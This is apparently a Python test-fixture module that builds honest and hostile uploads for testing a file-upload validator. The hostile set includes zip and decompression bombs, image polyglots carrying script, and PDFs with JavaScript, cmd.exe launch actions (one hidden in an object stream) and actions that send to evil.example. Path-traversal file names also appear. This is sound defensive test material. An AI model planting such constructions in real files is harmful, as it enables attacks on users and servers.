"""Files as strangers send them: honest ones, and the corpus of R65. Built here, so that nothing hostile lies in the repository."""

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

from PIL import Image
from PIL.ExifTags import IFD
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

CANARY = "Hedgehog Lane 12"


def a_picture(format_: str = "JPEG", *, size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: Any) -> bytes:
    made = BytesIO()
    picture = Image.new(mode, size)
    for x in range(0, size[0], 7):
        picture.putpixel((x, x % size[1]), 255 if mode == "L" else (200, 40, 90, 128)[: len(picture.getbands())])
    picture.save(made, format_, **options)
    return made.getvalue()


def a_photo_with_places(*, orientation: int = 1, size: tuple[int, int] = (64, 48)) -> bytes:
    """R66: a JPEG as a telephone writes it: where it was taken, by what, of whom, with a comment."""
    exif = Image.Exif()
    exif[0x010F], exif[0x013B], exif[0x0112] = CANARY, CANARY, orientation
    gps = exif.get_ifd(IFD.GPSInfo)
    gps.update({1: "N", 2: (51.0, 30.0, 26.0), 3: "W", 4: (0.0, 7.0, 39.0)})
    return a_picture(size=size, exif=exif, comment=CANARY.encode())


def a_png_with_words() -> bytes:
    words = PngInfo()
    words.add_text("Author", CANARY)
    words.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{CANARY}</x:xmpmeta>")
    return a_picture("PNG", pnginfo=words)


def a_pdf(*, pages: int = 1, link: bool = False, **additions: Any) -> bytes:
    """Pages and nothing else, unless `additions` of the catalogue say so."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    if link:
        writer.add_annotation(0, Link(rect=(0, 0, 50, 50), url="https://register.example"))
    for key, value in additions.items():
        writer.root_object[NameObject(f"/{key}")] = value
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def _dict(**entries: Any) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def _name(text: str) -> NameObject:
    return NameObject(f"/{text}")


def _written(writer: PdfWriter) -> bytes:
    made = BytesIO()
    writer.write(made)
    return made.getvalue()


def _with_javascript() -> bytes:
    writer = PdfWriter(clone_from=BytesIO(a_pdf()))
    names = _dict(Names=ArrayObject([TextStringObject("1"), _dict(S=_name("JavaScript"), JS=TextStringObject("app.alert(1)"))]))
    writer.root_object[NameObject("/Names")] = _dict(JavaScript=names)
    return _written(writer)


def _with_attachment() -> bytes:
    writer = PdfWriter(clone_from=BytesIO(a_pdf()))
    writer.add_attachment("invoice.exe", b"MZ")
    return _written(writer)


def _locked(password: str) -> bytes:
    writer = PdfWriter(clone_from=BytesIO(a_pdf()))
    writer.encrypt(password, algorithm="AES-256")
    return _written(writer)


def _with_annotation(**entries: Any) -> bytes:
    writer = PdfWriter(clone_from=BytesIO(a_pdf()))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([_dict(Type=_name("Annot"), Rect=ArrayObject([NumberObject(0)] * 4), **entries)])
    return _written(writer)


def _hidden_in_an_object_stream() -> bytes:
    """An action that only who unpacks the compressed objects can see."""
    catalogue = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"
    objects = [(1, catalogue), (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"), (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")]
    offsets, body = [], b""
    for number, content in objects:
        offsets.append(f"{number} {len(body)}")
        body += content + b" "
    head = " ".join(offsets).encode() + b" "
    packed = zlib.compress(head + body)
    out = b"%PDF-1.5\n"
    at = len(out)
    out += (
        b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (len(head), len(packed)) + packed + b"\nendstream\nendobj\n"
    )
    start = len(out)
    rows = b"".join(struct.pack(">BHB", *row) for row in ((0, 0, 0), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, at, 0), (1, start, 0)))
    table = zlib.compress(rows)
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Length %d /Filter /FlateDecode >>\nstream\n" % len(table) + table + b"\nendstream\nendobj\n"
    )
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def _a_zip_bomb() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0", b"\0" * 20_000_000)
    return made.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A grey PNG of any size in a few kilobytes, without ever holding its pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    packer = zlib.compressobj(9)
    row = b"\0" * (width // 8 + 1)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def _a_text_bomb() -> bytes:
    """A PNG whose compressed comment unpacks to 100 MB."""
    body = b"Comment\0\0" + zlib.compress(b"a" * 100_000_000)
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    png = a_picture("PNG")
    return png[:33] + chunk + png[33:]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<html><body><script>alert(1)</script></body></html>"


def hostile_files() -> dict[str, bytes]:
    """R65: what must be refused, whatever it is called and says of itself. Name to content."""
    jpeg, png, pdf = a_picture(), a_picture("PNG"), a_pdf()
    action = _dict(Type=_name("Action"), S=_name("Launch"), F=TextStringObject("cmd.exe"))
    script = _dict(S=_name("JavaScript"), JS=TextStringObject("app.alert(1)"))
    goto_web = _dict(S=_name("URI"), URI=TextStringObject("https://evil.example/opened"))
    outside = StreamObject()
    outside.update(_dict(F=TextStringObject("http://evil.example/x")))
    return {
        "empty.pdf": b"",
        "program.pdf": b"MZ" + b"\0" * 500,
        "program.jpg": b"\x7fELF" + b"\0" * 500,
        "page.png": HTML,
        "picture.svg": SVG,
        "svg.jpg": SVG,
        "svg-with-declaration.png": b'<?xml version="1.0"?>' + SVG,
        "bomb.zip": _a_zip_bomb(),
        "bomb.pdf": _a_zip_bomb(),
        "animation.gif": a_picture("GIF"),
        "picture.webp": a_picture("WEBP"),
        "picture.tiff": a_picture("TIFF"),
        "picture.bmp": a_picture("BMP"),
        "words.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
        "only-magic.jpg": b"\xff\xd8\xff",
        "only-magic.png": b"\x89PNG\r\n\x1a\n",
        "only-magic.pdf": b"%PDF-1.7",
        "jpeg-magic-html.jpg": b"\xff\xd8\xff" + HTML,
        "truncated.jpg": jpeg[: len(jpeg) // 2],
        "truncated.png": png[: len(png) // 2],
        "truncated.pdf": pdf[: len(pdf) // 2],
        "broken-sum.png": png.replace(b"IDAT", b"IDAX"),
        "20k-by-20k.png": png_of(20_000, 20_000),
        "one-line.png": png_of(200_000, 1),
        "lying-header.png": png[:16] + struct.pack(">II", 60_000, 60_000) + png[24:],
        "text-bomb.png": _a_text_bomb(),
        "html-in.pdf": b"%PDF-1.4\n" + HTML + b"\n%%EOF\n",
        "html-comment-in.pdf": pdf.replace(b"\n", b"\n%" + HTML + b"\n", 1),
        "html-before.pdf": HTML + pdf,
        "html-behind.pdf": pdf + HTML,
        "zip-behind.pdf": pdf + _a_zip_bomb(),
        "no-objects.pdf": b"%PDF-1.7\n%%EOF\n",
        "no-pages.pdf": a_pdf(pages=0),
        "many-pages.pdf": a_pdf(pages=101),
        "script.pdf": _with_javascript(),
        "script-on-opening.pdf": a_pdf(OpenAction=script),
        "script-by-another-name.pdf": a_pdf(OpenAction=script).replace(b"/JavaScript", b"/Java#53cript"),
        "launch-on-opening.pdf": a_pdf(OpenAction=action),
        "launch-in-object-stream.pdf": _hidden_in_an_object_stream(),
        "calls-home-on-opening.pdf": a_pdf(OpenAction=goto_web),
        "additional-actions.pdf": a_pdf(AA=_dict(WC=goto_web)),
        "attachment.pdf": _with_attachment(),
        "attachment-on-a-page.pdf": _with_annotation(Subtype=_name("FileAttachment")),
        "film.pdf": _with_annotation(Subtype=_name("Movie")),
        "rich-media.pdf": _with_annotation(Subtype=_name("RichMedia")),
        "form-that-sends.pdf": _with_annotation(Subtype=_name("Widget"), A=_dict(S=_name("SubmitForm"), F=TextStringObject("https://evil.example"))),
        "other-file.pdf": _with_annotation(Subtype=_name("Link"), A=_dict(S=_name("GoToR"), F=TextStringObject("//evil.example/share"))),
        "xfa.pdf": a_pdf(AcroForm=_dict(XFA=TextStringObject("<xdp/>"))),
        "portfolio.pdf": a_pdf(Collection=_dict(View=_name("D"))),
        "stream-elsewhere.pdf": a_pdf(Elsewhere=outside),
        "locked.pdf": _locked("secret"),
        "locked-without-password.pdf": _locked(""),
    }


def honest_files() -> dict[str, bytes]:
    """What people really send. Name to content."""
    return {
        "card.jpg": a_picture(),
        "grey.jpg": a_picture(mode="L"),
        "print.jpg": a_picture(mode="CMYK"),
        "certificate.png": a_picture("PNG"),
        "see-through.png": a_picture("PNG", mode="RGBA"),
        "photo.jpg": a_photo_with_places(),
        "words.png": a_png_with_words(),
        "../../../../etc/cron.d/job.pdf": a_pdf(),
        "C:\\windows\\system32\\a.pdf": a_pdf(pages=3),
        "letter.pdf": a_pdf(link=True),
        "named.exe": a_picture(),
        "picture-and-page.jpg": a_picture() + HTML,
        "picture-and-archive.png": a_picture("PNG") + _a_zip_bomb(),
        "picture-and-script.pdf": a_picture() + _with_javascript(),
    }
